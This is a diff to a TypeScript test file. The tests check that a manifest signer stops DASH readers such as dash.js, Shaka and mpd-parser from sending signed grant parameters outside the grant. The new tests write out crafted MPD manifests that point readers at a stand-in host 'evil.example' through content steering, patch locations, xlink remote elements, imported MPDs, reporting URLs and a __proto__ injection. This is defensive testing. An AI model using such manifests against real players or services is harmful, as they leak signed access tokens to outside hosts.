@@ -11,7 +11,8 @@ import { mutatedPlaylist } from "./support/mutated-playlists.ts";
 /**
  * Playlists and manifests that are nearly right, signed, and read by hls.js, m3u8-parser, hls-parser, Media3,
  * mpd-parser, dash.js and Shaka: no reader may ask for a URL with the grant's parameters that the grant does
- * not cover. `MUTATED_MANIFESTS=200000` makes a long run of it.
+ * not cover. `MUTATED_MANIFESTS=200000` makes a long run of it, and
+ * prints how many URLs each reader asked for.
  */
 
 const runs = Number(process.env.MUTATED_MANIFESTS ?? 2000) / 4;
@@ -77,6 +78,8 @@ async function outcomeOf(
         }
       }
     }
+  if (process.env.MUTATED_MANIFESTS)
+    process.stdout.write(`${JSON.stringify({ ...outcome, outside: outcome.outside.length })}\n`);
   return outcome;
 }
 
@@ -118,5 +121,75 @@ describe("no reader sends the grant's parameters outside the grant", () => {
     expect(Object.keys(outcome.asked).sort()).toEqual(["Shaka", "dash.js", "mpd-parser"]);
     for (const asked of Object.values(outcome.asked)) expect(asked).toBeGreaterThan(runs / 4);
     expect(Math.min(outcome.signed, outcome.refused)).toBeGreaterThan(runs / 2);
+  });
+});
+
+/** That the readers would follow these, and that the signer refuses them, is what makes the long run count. */
+describe("a reader follows what is refused", () => {
+  const evil = "https://evil.example/";
+  const inSet = (attributes: string, inner: string) =>
+    `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" xmlns:xlink="http://www.w3.org/1999/xlink" type="static" mediaPresentationDuration="PT4S"><Period><AdaptationSet mimeType="video/mp4" codecs="avc1.4d401e"><SegmentTemplate media="$Number$.m4s?${mark}" duration="1"/><Representation id="1" bandwidth="1"${attributes}>${inner}</Representation></AdaptationSet></Period></MPD>`;
+  const inMpd = (inner: string) => inSet("", "").replace("<Period>", `${inner}<Period>`);
+  it.each([
+    ["dash.js", "steering", inMpd(`<ContentSteering>${evil}</ContentSteering>`)],
+    [
+      "dash.js",
+      "steering of a service description",
+      inMpd(`<ServiceDescription><ContentSteering>${evil}</ContentSteering></ServiceDescription>`),
+    ],
+    ["dash.js", "a patch", inMpd(`<PatchLocation>${evil}</PatchLocation>`)],
+    ["dash.js", "a prototype", inSet("", `<__proto__><BaseURL>${evil}</BaseURL></__proto__>`)],
+    [
+      "dash.js",
+      "a prototype with a prefix",
+      inSet("", `<x:__proto__><BaseURL>${evil}</BaseURL></x:__proto__>`),
+    ],
+    [
+      "dash.js",
+      "reports",
+      inMpd(
+        `<Metrics metrics="DVBErrors"><Reporting schemeIdUri="urn:dvb:dash:reporting:2014" dvb:reportingUrl="${evil}"/></Metrics>`,
+      ),
+    ],
+    [
+      "dash.js",
+      "a remote element",
+      inMpd("").replace("<AdaptationSet", `<AdaptationSet xlink:actuate="onLoad" xlink:href="${evil}"`),
+    ],
+    [
+      "dash.js",
+      "a remote element by its attribute BaseURL",
+      inMpd("").replace(
+        "<AdaptationSet",
+        `<AdaptationSet BaseURL="${evil}" xlink:actuate="onLoad" xlink:href="a"`,
+      ),
+    ],
+    ["Shaka", "steering", inMpd(`<ContentSteering>${evil}</ContentSteering>`)],
+    [
+      "Shaka",
+      "a remote representation",
+      inSet(` xlink:actuate="onLoad" xlink:href="${evil}"`, '<SegmentList xlink:href="a.xml"/>'),
+    ],
+    [
+      "Shaka",
+      "an imported MPD",
+      inMpd("").replace("<AdaptationSet", `<ImportedMPD>${evil}</ImportedMPD><AdaptationSet`),
+    ],
+    ["mpd-parser", "steering", inMpd(`<ContentSteering>${evil}</ContentSteering>`)],
+    [
+      "mpd-parser",
+      "steering by an attribute",
+      inMpd(`<ContentSteering serverURL="${evil}">s</ContentSteering>`),
+    ],
+  ])("%s: %s", async (name, _, xml) => {
+    const urls = (await dashReaders[name]?.(xml, `${folder}manifest.mpd`)) ?? [];
+    expect(urls.filter((url) => url.startsWith(evil) && url.includes(mark))).not.toEqual([]);
+    for (const uncovered of ["throw", "leave"] as const)
+      expect(() =>
+        signDashManifest(xml.replace(`?${mark}`, ""), grant, {
+          manifestUrl: `${folder}manifest.mpd`,
+          uncovered,
+        }),
+      ).toThrow();
   });
 });
